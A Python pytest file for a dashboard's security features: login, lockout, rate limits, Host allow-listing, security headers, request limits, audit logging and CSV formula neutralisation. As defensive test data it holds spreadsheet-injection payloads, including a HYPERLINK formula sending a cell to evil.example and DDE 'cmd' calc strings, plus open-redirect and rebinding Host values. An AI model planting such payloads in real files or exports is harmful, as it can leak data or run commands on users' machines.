"""Serving that is safe to expose: login, sessions, lockout, rate limit, Host allow-list,
security headers, request size and shape limits, the audit log, the users file, and
spreadsheet formulas neutralised in every export."""

from __future__ import annotations

import csv
import io
import json
import re
import stat
from collections.abc import Callable

import polars as pl
import pytest
from argon2 import PasswordHasher
from typer.testing import CliRunner

from cxbridge.dashboards.app import create_app, serve
from cxbridge.dashboards.auth import (
    DashboardConfigError,
    Lockout,
    UsersFileError,
    add_user,
    read_users,
    remove_user,
)
from cxbridge.dashboards.roles import Account
from cxbridge.dashboards.security import allowed_hosts, host_name
from cxbridge.lab.dashboard_bench import post_callback
from cxbridge.platform.audit import read_events
from cxbridge.platform.csv_export import neutralise_formulas
from tests.dashboards.browser import start
from tests.dashboards.login_form import CSRF
from tests.dashboards.login_form import log_in as form_log_in
from tests.dashboards.world import OPEN_FIBRE, PII_CUSTOMER

PASSWORD = "correct horse battery"
FORMULAS = ('=HYPERLINK("http://evil.example?"&A2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


@pytest.fixture(scope="module")
def password_hash() -> str:
    """A hash of :data:`PASSWORD` with argon2's cheapest parameters (a hash carries its own,
    so checking it is quick; the server's are slow on purpose)."""
    return PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1).hash(PASSWORD)


class Clock:
    """Seconds that a test moves by hand (no sleeping)."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def log_in(client, user: str, password: str = PASSWORD, next_path: str = "/"):
    """Log in through the form, with this module's password unless another is given."""
    return form_log_in(client, user, password, next_path)


@pytest.fixture
def login_app(settings, publish, tiny_rows, password_hash) -> Callable[..., object]:
    publish("run-a", tiny_rows)

    def make(clock: Clock | None = None, **kwargs):
        return create_app(settings, users={"ana": Account(password_hash, "marketing"),
                                           "desk": Account(password_hash, "care")},
                          clock=clock or Clock(), **kwargs)

    return make


def test_login_logout_and_their_audit_lines(settings, login_app):
    client = login_app().server.test_client()
    page = client.get("/marketing?region=Munster", headers={"Accept": "text/html"})
    assert page.status_code == 302 and page.headers["Location"].startswith("/login?next=")
    assert client.get("/_dash-layout").status_code == 401
    assert client.get(f"/export/care/{OPEN_FIBRE}.csv").status_code == 401
    assert client.get("/assets/10-cxbridge.css").status_code == 200  # the form's styles

    answer = log_in(client, "ana", next_path="/marketing?region=Munster")
    assert answer.status_code == 302 and answer.headers["Location"] == "/marketing?region=Munster"
    layout = json.dumps(client.get("/_dash-layout").get_json(), ensure_ascii=False)
    assert "ana · Marketing" in layout and "/logout" in layout
    assert client.get("/logout").status_code == 302
    assert client.get("/_dash-layout").status_code == 401  # the session ended on the server

    assert log_in(client, "ana", next_path="https://evil.example/").headers["Location"] == "/"
    assert log_in(client, "ana", next_path="/\t/evil.example").headers["Location"] == "/"
    events = read_events(settings.dashboard.audit_file)
    assert [(e["event"], e["user"]) for e in events] == [("login", "ana"), ("logout", "ana"),
                                                          ("login", "ana"), ("login", "ana")]
    assert events[0]["role"] == "marketing" and events[0]["client"] == "127.0.0.1"


def test_failed_login_says_not_which_part_was_wrong(login_app):
    client = login_app().server.test_client()
    wrong_password = log_in(client, "ana", "not the password")
    unknown_user = log_in(client, "nobody", PASSWORD)
    assert wrong_password.status_code == unknown_user.status_code == 401
    for answer in (wrong_password, unknown_user):
        assert "The user name or password is not right." in answer.get_data(as_text=True)
    forged = client.post("/login", data={"username": "ana", "password": PASSWORD,
                                         "csrf": "forged"})
    assert forged.status_code == 400 and "cxbridge_session=" not in str(forged.headers)


def test_session_cookie_flags_and_lifetime(login_app):
    clock = Clock()
    plain = login_app(clock).server.test_client()
    cookie = log_in(plain, "ana").headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Secure" not in cookie
    clock.now += 8 * 3600 + 1  # session_minutes = 480 by default
    assert plain.get("/_dash-layout").status_code == 401
    secure = login_app(tls=True).server.test_client()
    assert "Secure" in log_in(secure, "ana").headers["Set-Cookie"]


def test_lockout_refuses_even_the_right_password_until_it_ends(settings, login_app):
    clock = Clock()
    client = login_app(clock).server.test_client()
    failures = settings.dashboard.lockout_failures
    answers = [log_in(client, "ana", "guess").status_code for _ in range(failures)]
    assert answers == [401] * (failures - 1) + [429]
    locked = log_in(client, "ana")  # the right password
    assert locked.status_code == 429 and "locked" in locked.get_data(as_text=True)
    clock.now += settings.dashboard.lockout_minutes * 60 - 1
    assert log_in(client, "ana").status_code == 429
    clock.now += 2
    assert log_in(client, "ana").status_code == 302
    assert log_in(client, "desk").status_code == 302  # other accounts were never locked
    kinds = [e["event"] for e in read_events(settings.dashboard.audit_file)]
    assert kinds.count("login_failed") == failures and kinds.count("login_locked") == 3


def test_lockout_counts_names_that_do_not_exist_and_forgets_old_ones():
    clock = Clock()
    lockout = Lockout(failures=2, minutes=1, clock=clock, max_names=3)
    assert [lockout.failed("ghost"), lockout.failed("GHOST")] == [1, 2]
    assert lockout.seconds_left("ghost") == 60
    for name in ("a", "b", "c", "d"):
        lockout.failed(name)
    assert lockout.seconds_left("ghost") == 60  # a lock is kept while it lasts
    clock.now += 61
    assert lockout.seconds_left("ghost") == 0 and lockout.failed("ghost") == 1


def test_login_attempts_are_rate_limited_per_address(settings, publish, tiny_rows,
                                                     password_hash):
    from cxbridge.platform.settings import load_settings

    limited = load_settings({"CXBRIDGE_HOME": str(settings.home), "CXBRIDGE_CONFIG": "",
                             "CXBRIDGE_DASHBOARD_LOGIN_RATE_LIMIT": "3 per minute"})
    publish("run-a", tiny_rows)
    app = create_app(limited, users={"ana": Account(password_hash, "marketing")})
    client = app.server.test_client()
    statuses = [log_in(client, f"user{n}", "guess").status_code for n in range(4)]
    assert statuses == [401, 401, 401, 429]
    assert "Too many log-in attempts" in log_in(client, "ana").get_data(as_text=True)
    other = {"REMOTE_ADDR": "10.0.0.9"}
    token = CSRF.search(client.get("/login").get_data(as_text=True)).group(1)
    assert client.post("/login", data={"username": "ana", "password": PASSWORD, "csrf": token},
                       environ_base=other).status_code == 302


def test_security_headers_on_every_response(login_app):
    client = login_app().server.test_client()
    log_in(client, "ana")
    for response in (client.get("/login"), client.get("/"), client.get("/_dash-layout"),
                     client.get("/assets/10-cxbridge.css"), client.get("/nowhere")):
        headers = response.headers
        csp = headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self' 'sha256-" in csp
        assert "unsafe-eval" not in csp and "script-src 'self' 'unsafe-inline'" not in csp
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "same-origin"
        assert "Strict-Transport-Security" not in headers
    secure = login_app(tls=True).server.test_client()
    assert secure.get("/login").headers["Strict-Transport-Security"].startswith("max-age=")


def test_no_login_answers_only_to_loopback_names(settings, publish, tiny_rows):
    publish("run-a", tiny_rows)
    client = create_app(settings).server.test_client()
    for host in ("localhost", "localhost:8050", "127.0.0.1:8050", "[::1]:8050"):
        assert client.get("/_dash-layout", headers={"Host": host}).status_code == 200, host
    for host in ("evil.example", "evil.example:8050", "127.0.0.1.evil.example", "10.0.0.5"):
        assert client.get("/_dash-layout", headers={"Host": host}).status_code == 400, host
    url = f"/export/care/{OPEN_FIBRE}.csv?role=care"  # what a rebinding page would take
    assert client.get(url, headers={"Host": "evil.example"}).status_code == 400


def test_with_users_the_allowed_hosts_come_from_settings(login_app, settings):
    assert host_name("[::1]:8050") == "::1" and host_name("Cx.Example.COM.:443") == "cx.example.com"
    assert allowed_hosts("0.0.0.0", login=False) == {"localhost", "127.0.0.1", "::1"}
    assert {"10.1.2.3", "localhost"} <= allowed_hosts("10.1.2.3", login=True)
    assert allowed_hosts("0.0.0.0", True, ["cx.example.com"]) == {"cx.example.com"}
    client = login_app(listen="10.1.2.3").server.test_client()
    assert client.get("/login", headers={"Host": "10.1.2.3:8050"}).status_code == 200
    assert client.get("/login", headers={"Host": "evil.example"}).status_code == 400


def test_oversized_requests_get_413(settings, publish, tiny_rows):
    publish("run-a", tiny_rows)
    client = create_app(settings).server.test_client()
    client.get("/")
    limit = settings.dashboard.max_request_kb * 1024
    body = json.dumps({"output": "shell-footer.children", "inputs": ["x" * limit]})
    assert client.post("/_dash-update-component", data=body,
                       content_type="application/json").status_code == 413


def test_malformed_and_wrong_typed_callback_requests_are_4xx(settings, publish, tiny_rows):
    publish("run-a", tiny_rows)
    app = create_app(settings)
    client = app.server.test_client()
    assert client.get("/").status_code == 200
    for body in ("not json", "[1, 2]", json.dumps({"output": "nope.children"}),
                 json.dumps({"output": "shell-footer.children", "inputs": 3})):
        answer = client.post("/_dash-update-component", data=body,
                             content_type="application/json")
        assert answer.status_code == 400, body
    served = 0
    for output, spec in app.callback_map.items():
        if "callback" not in spec or "{" in output:
            continue
        for junk in ({"x": 1}, 12345, [[1]], "zz"):
            values = {f"{i['id']}.{i['property']}": junk for i in spec["inputs"] + spec["state"]}
            status = post_callback(client, app, output, values).status_code
            assert status < 500, (output, junk)
            served += 1
    assert served > 40


def test_a_wrong_typed_input_is_logged_with_its_traceback(settings, publish, tiny_rows, caplog):
    publish("run-a", tiny_rows)
    app = create_app(settings)
    client = app.server.test_client()
    client.get("/")
    answer = post_callback(client, app, "overview-trend.figure",
                           {"overview-kpi.value": {"not": "a metric"}})
    assert answer.status_code == 400
    logged = [r for r in caplog.records if r.name == "cxbridge.dashboards.security"]
    assert logged and logged[0].exc_info is not None


def _formula_world(world: dict[str, pl.DataFrame]) -> dict[str, pl.DataFrame]:
    people = world["customers"]
    names = [FORMULAS[n % len(FORMULAS)] for n in range(people.height)]
    return {**world, "customers": people.with_columns(
        name=pl.Series(names), email=pl.Series(["@" + e for e in people["email"]]))}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_both_exports_neutralise_formulas(settings, publish, demo_rows, world):
    publish("world-run", demo_rows, _formula_world(world))
    client = create_app(settings).server.test_client()
    campaign = client.get("/export/campaign.csv?from=2026-03-02&to=2026-03-15&role=marketing")
    care = client.get(f"/export/care/{OPEN_FIBRE}.csv?role=care")
    for answer in (campaign, care):
        text = answer.get_data(as_text=True)
        cells = _cells(text)
        assert any(c.startswith("'=HYPERLINK(") for c in cells)
        assert any(c.startswith("'@") for c in cells)
        bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
               and not re.fullmatch(r"[+-]?[0-9][0-9 .]*", c)]
        assert bad == []
    events = [e for e in read_events(settings.dashboard.audit_file) if e["event"] == "export"]
    assert [(e["export"], e["role"], e["contacts"]) for e in events] == [
        ("campaign", "marketing", True), ("care_list", "care", True)]
    assert all(e["rows"] > 0 and e["client"] == "127.0.0.1" for e in events)


def test_formula_rule_keeps_numbers_and_phone_numbers():
    frame = pl.DataFrame({"text": ["=1+1", "+353 87 100 0001", "-12.50", "-1+2", "@x", "plain",
                                   None, "a=b"],
                          "number": [-3.5, 1.0, -2.0, 0.0, 1.0, 2.0, None, 3.0]})
    out = neutralise_formulas(frame)
    assert out["text"].to_list() == ["'=1+1", "+353 87 100 0001", "-12.50", "'-1+2", "'@x",
                                     "plain", None, "a=b"]
    assert out["number"].to_list() == frame["number"].to_list()


def test_cli_care_export_is_neutralised(tmp_path, world):
    from cxbridge.platform.csv_export import write_csv

    path = tmp_path / "care.csv"
    write_csv(_formula_world(world)["customers"].select("customer_id", "name", "email"), path)
    assert [c for c in _cells(path.read_text()) if c[:1] in "=@+-"] == []


def test_users_file_keeps_hashes_only_with_mode_0600(tmp_path):
    path = tmp_path / "dashboard" / "users.json"
    assert add_user(path, "ana", PASSWORD, "marketing") is True
    assert add_user(path, "ana", PASSWORD + "!", "care") is False  # replaced
    text = path.read_text()
    assert PASSWORD not in text and "$argon2id$" in text
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert read_users(path)["ana"].role == "care"
    with pytest.raises(UsersFileError, match="at least"):
        add_user(path, "bo", "short", "care")
    with pytest.raises(UsersFileError, match="no user 'bo'"):
        remove_user(path, "bo")
    path.chmod(0o644)
    with pytest.raises(UsersFileError, match="chmod 600"):
        read_users(path)


def test_users_command_and_the_old_variable(tmp_path, monkeypatch, settings):
    from cxbridge.app.cli import app

    monkeypatch.setenv("CXBRIDGE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("CXBRIDGE_CONFIG", "")
    runner = CliRunner()
    added = runner.invoke(app, ["users", "add", "noc", "--role", "operations",
                                "--password-stdin"], input=PASSWORD + "\n")
    assert added.exit_code == 0, added.output
    listed = runner.invoke(app, ["users", "list"])
    assert "noc" in listed.output and "operations" in listed.output
    assert "argon2" not in listed.output
    assert runner.invoke(app, ["users", "remove", "noc"]).exit_code == 0
    assert runner.invoke(app, ["users", "remove", "noc"]).exit_code == 1
    with pytest.raises(DashboardConfigError, match="cxbridge users add"):
        serve(settings, env={"CXBRIDGE_DASHBOARD_USERS": "ana:s3cret:marketing"})


def test_secret_key_is_made_once_and_private(settings, login_app):
    login_app()
    key_file = settings.dashboard.secret_key_file
    first = key_file.read_text()
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600 and len(first.strip()) == 64
    login_app()
    assert key_file.read_text() == first


def test_a_removed_user_is_out_at_the_next_request(settings, publish, tiny_rows):
    publish("run-a", tiny_rows)
    add_user(settings.dashboard.users_file, "ana", PASSWORD, "marketing")
    app = create_app(settings)  # users from the file
    client = app.server.test_client()
    assert log_in(client, "ana").status_code == 302
    assert client.get("/_dash-layout").status_code == 200
    remove_user(settings.dashboard.users_file, "ana")
    assert client.get("/_dash-layout").status_code == 401


@pytest.mark.browser
@pytest.mark.usefixtures("chromium")
def test_logging_in_through_the_page_shows_the_overview(dash_duo, settings, publish, demo_rows,
                                                        world, password_hash):
    publish("demo-run", demo_rows, world)
    app = create_app(settings, users={"ana": Account(password_hash, "marketing")})
    port = start(dash_duo, app, navigate=False)
    dash_duo.driver.get(f"http://127.0.0.1:{port}/")  # sent on to the log-in form
    dash_duo.wait_for_element("#login-form")
    dash_duo.find_element("#username").send_keys("ana")
    dash_duo.find_element("#password").send_keys("not it")
    dash_duo.find_element("#login-submit").click()
    dash_duo.wait_for_contains_text("#login-message", "not right")
    dash_duo.find_element("#password").send_keys(PASSWORD)
    dash_duo.find_element("#login-submit").click()
    dash_duo.wait_for_element("#overview-tile-time_to_restore .kpi-number")
    dash_duo.wait_for_contains_text("#shell-role-name", "ana · Marketing")
    dash_duo.wait_for_element("#overview-trend .js-plotly-plot")
    assert PII_CUSTOMER["name"] not in dash_duo.find_element("body").text
    # no CSP violation, no failed request (but the wrong password's 401, which Chromium logs)
    assert [e for e in dash_duo.get_logs() if "/login - " not in e["message"]] == []
    dash_duo.find_element("#shell-logout").click()
    dash_duo.wait_for_element("#login-form")


@pytest.fixture(scope="module")
def incidents_built(tmp_path_factory):
    """The incident models' small world (tests/models/incidents_world.py), one customer named
    as a formula."""
    import cxbridge.models.incidents as incidents
    from cxbridge.platform import ingest, warehouse
    from cxbridge.platform.settings import load_settings
    from tests.models.incidents_world import build_core, write_world

    home = tmp_path_factory.mktemp("cli-exports")
    settings = load_settings({"CXBRIDGE_HOME": str(home / "home"), "CXBRIDGE_CONFIG": ""})
    write_world(home / "raw")
    for path in (home / "raw" / "customers").rglob("*.csv"):
        path.write_text(path.read_text().replace("Aoife", "=HYPERLINK(\"\"http://x\"\")"))
    settings.ensure_dirs()
    with warehouse.connect(settings) as con:
        ingest.ingest_many(con, ingest.discover(home / "raw"), "t")
        build_core(con)
        incidents.build(con)
    return settings


def test_cli_contacts_export_is_neutralised_and_audited(incidents_built, monkeypatch):
    from cxbridge.app.cli import app

    monkeypatch.setenv("CXBRIDGE_HOME", str(incidents_built.home))
    monkeypatch.setenv("CXBRIDGE_CONFIG", "")
    runner = CliRunner()
    plain = runner.invoke(app, ["incidents", "--care", "PRB-A-ROOT", "--export"])
    assert plain.exit_code == 0, plain.output
    assert read_events(incidents_built.dashboard.audit_file) == []  # no contacts: not audited
    done = runner.invoke(app, ["incidents", "--care", "PRB-A-ROOT", "--contacts", "--export"])
    assert done.exit_code == 0, done.output
    written = (incidents_built.exports_dir / "care" / "PRB-A-ROOT-contacts.csv").read_text()
    cells = _cells(written)
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert [c for c in cells if c[:1] in "=@"] == []
    [event] = read_events(incidents_built.dashboard.audit_file)
    assert event["event"] == "export" and event["via"] == "cli" and event["contacts"] is True
    assert event["rows"] == 2 and event["to"].endswith("PRB-A-ROOT-contacts.csv")


def test_dashboard_settings_from_the_config_file_and_environment(tmp_path):
    from cxbridge.platform.dashboard_settings import DashboardSettingsError
    from cxbridge.platform.settings import load_settings

    config = tmp_path / "cxbridge.toml"
    config.write_text('[dashboard]\nlockout_failures = 3\nallowed_hosts = ["cx.example.com"]\n'
                      'certfile = "/etc/tls.crt"\nkeyfile = "/etc/tls.key"\n')
    env = {"CXBRIDGE_HOME": str(tmp_path / "home"), "CXBRIDGE_CONFIG": str(config),
           "CXBRIDGE_DASHBOARD_LOCKOUT_MINUTES": "30"}
    dashboard = load_settings(env).dashboard
    assert (dashboard.lockout_failures, dashboard.lockout_minutes) == (3, 30)
    assert dashboard.allowed_hosts == ("cx.example.com",) and dashboard.tls
    assert dashboard.users_file == tmp_path / "home" / "dashboard" / "users.json"
    config.write_text("[dashboard]\nlockout_failure = 3\n")
    with pytest.raises(DashboardSettingsError, match="unknown key.*lockout_failure"):
        load_settings(env)
    config.write_text('[dashboard]\ncertfile = "/etc/tls.crt"\n')
    with pytest.raises(DashboardSettingsError, match="certfile and keyfile go together"):
        load_settings(env)
    with pytest.raises(DashboardSettingsError, match="whole number"):
        load_settings({**env, "CXBRIDGE_CONFIG": "", "CXBRIDGE_DASHBOARD_SESSION_MINUTES": "0"})
